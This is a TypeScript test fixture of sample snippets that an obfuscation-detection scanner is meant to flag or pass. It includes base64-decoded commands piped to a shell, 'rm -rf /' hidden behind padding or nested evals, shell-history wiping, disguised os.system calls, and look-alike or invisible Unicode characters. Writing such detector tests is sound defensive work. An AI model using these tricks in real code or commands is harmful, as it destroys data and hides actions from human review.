// Blocks for the rules in obfuscation.ts. They are read by tests and never run.

import type { obfuscation } from "./obfuscation.ts";
import type { ExamplesOf } from "./rule.ts";

const encoded =
  "KXK7BE2W3yhxugNMld4ncLkCS5TdJm+4AUqT3CVutwBJktskbbb/SJHaI2y1/keQ2SJrtP1Gj9gharP8RY7XIGmy+0SN1h9osfpDjNUeZ7D5QovUHWav+EGK0xxlrvdAidIbZK32P4jRGmOs9T6H0Bliq/Q9hs8YYarzPIXOF2Cp8juEzRZfqPE6g8wVXqfwOYLLFF2m7ziByhNcpe43gMkSW6TtNn/IEVqj7DV+xxBZous0fcYPWKHqM3zFDleg6TJ7xA1Wn+gxesMMVZ7nMHnCC1Sd5i94wQpTnOUud8AJUpvkLXa/CFGa4yx1vgdQmeIrdL0GT5jhKnO8BU6X4ClyuwRNlt8ocboDTJXeJ3C5AkuU3SZvuAFKk9wlbrcASZLbJG22/0iR2iNstf5HkNkia7T9Ro/YIWqz/EWO1yBpsvtEjdYfaLH6Q4zVHmew+UKL1B1mr/hBitMcZa73QInSG2St9j+I";

export const obfuscationExamples: ExamplesOf<typeof obfuscation> = {
  "run-decoded": {
    finds: [
      "echo cm0gLXJmIH4veA== | base64 -d | sh",
      "base64 -d payload | bash",
      'eval "$(echo aWQ7IHdob2FtaQ== | base64 --decode)"',
      "printf '\\x69\\x64' | sh",
      "echo 'di' | rev | sh",
      "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A",
      { python: "import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvIHRoZXJlJyk='))" },
      { python: "import base64 as b, zlib as z\nexec(z.decompress(b.b64decode(data)))" },
      { python: "import marshal, types\ntypes.FunctionType(marshal.loads(raw), globals())()" },
      { python: "code = bytes.fromhex('7072696e7428312b3129').decode()\neval(code)" },
      { javascript: "eval(atob('Y29uc29sZS5sb2coMSk='))" },
      { javascript: "new Function(Buffer.from(text, 'base64').toString())()" },
    ],
    leaves: [
      "echo aGVsbG8= | base64 -d",
      "base64 picture.png > picture.txt",
      { python: "import base64\nprint(base64.b64decode('aGVsbG8='))" },
      { javascript: "const text = atob('aGVsbG8=');" },
    ],
  },
  "run-built": {
    finds: [
      'eval "$command"',
      'bash -c "$1"',
      { python: "exec(text)" },
      { python: "import builtins as b\nb.eval(input())" },
      { javascript: "(0, eval)(source)" },
      { javascript: "[].filter.constructor(code)()" },
      { javascript: "const name = prompt();\nawait import(name);" },
    ],
    leaves: [
      "eval 'echo hello'",
      "bash -c 'echo hello'",
      { python: "eval('1 + 1')" },
      { python: "model.eval()\nframe.eval('a + b')" },
      { javascript: "await import('node:fs')" },
      { javascript: "setTimeout(() => done(), 10)" },
    ],
  },
  "hidden-name": {
    finds: [
      'r""m -rf build',
      "$'\\x63\\x75\\x72\\x6c' https://example.com",
      { python: "import os\ngetattr(os, 'sys' + 'tem')('id')" },
      { python: "__import__('o' + 's').system('id')" },
      { python: "globals()['__builtins__'].__dict__['ev' + 'al']('1')" },
      { python: "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')" },
      { javascript: "globalThis['ev' + 'al']('1')" },
      { javascript: "require('child_' + 'process').execSync('id')" },
    ],
    leaves: [
      "'rm' old.txt",
      "\\ls",
      "/bin/ls",
      { python: "import os\ngetattr(os, 'getcwd')()" },
      { python: "path = 'a' + 'b'\nopen(path)" },
      { javascript: "const value = table['a' + 'b'];" },
    ],
  },
  "interpreter-parts": {
    finds: [{ python: "().__class__.__bases__[0].__subclasses__()" }, { javascript: "process.binding('spawn_sync')" }],
    leaves: [{ python: "print(self.__class__.__name__)" }, { javascript: "process.on('exit', done)" }],
  },
  "encoded-text": {
    finds: [{ python: `data = "${encoded}"` }, { javascript: `const data = "${encoded}";` }],
    leaves: [
      { python: `words = "${"the quick brown fox jumps over the lazy dog ".repeat(12)}"` },
      { python: `picture = "data:image/png;base64,${encoded}"` },
      { javascript: `const address = "${"https://example.com/a/".repeat(20)}";` },
    ],
  },
  "load-objects": {
    finds: [
      { python: "import pickle, requests\npickle.loads(requests.get('https://example.com/m').content)" },
      { python: "import pickle, base64\npickle.loads(base64.b64decode(text))" },
    ],
    leaves: [
      { python: "import pickle\npickle.load(open('model.pkl', 'rb'))" },
      { python: "import json\njson.loads('{}')" },
    ],
  },
  "hide-traces": {
    finds: ["history -c", "unset HISTFILE", "rm ~/.bash_history", "export HISTFILE=/dev/null", "> ~/.zsh_history"],
    leaves: ["history | tail", "git log --oneline"],
  },
  "turned-text": {
    finds: [{ python: "access = 'user\u202e \u2066# admin'" }, "echo 'a\u202eb'"],
    leaves: [{ python: "greeting = 'שלום'" }, "echo 'مرحبا'"],
  },
  "unseen-text": {
    finds: ["rm\u200b -rf x", { javascript: "const a\u2060b = 1;" }],
    leaves: ["echo '👩‍👩‍👧'", "\ufeffecho start", { python: "word = 'می\u200cخواهم'" }],
  },
  "look-alike": {
    finds: ["с\u0075rl https://example.com", { python: "import оs" }, { python: "\uff45\uff58\uff45\uff43('1')" }],
    leaves: [{ python: "print('Привет, мир')" }, { python: "Δx = 1\nσ_max = 2" }, "echo 'Ελλάδα'", "echo 'naïve café'"],
  },
  "not-looked-at": {
    finds: [
      `${"true;".repeat(6_000)} rm -rf /`,
      { python: `${"x = 1\n".repeat(45_000)}import os` },
      `eval 'eval "eval \\"eval \\\\\\"rm -rf /\\\\\\"\\""'`,
      { javascript: `${"x;".repeat(600_000)}` },
    ],
    leaves: ["echo one", { python: `rows = [${"1, ".repeat(50_000)}]` }],
  },
  unreadable: {
    finds: [{ python: "def broken(:" }, { javascript: "const = ;" }, "if true; then echo"],
    leaves: [
      { python: "print(1)" },
      { python: "!ls\n%timeit -n 3" },
      { javascript: "const n: number = 1;" },
      "if true; then echo; fi",
    ],
  },
};
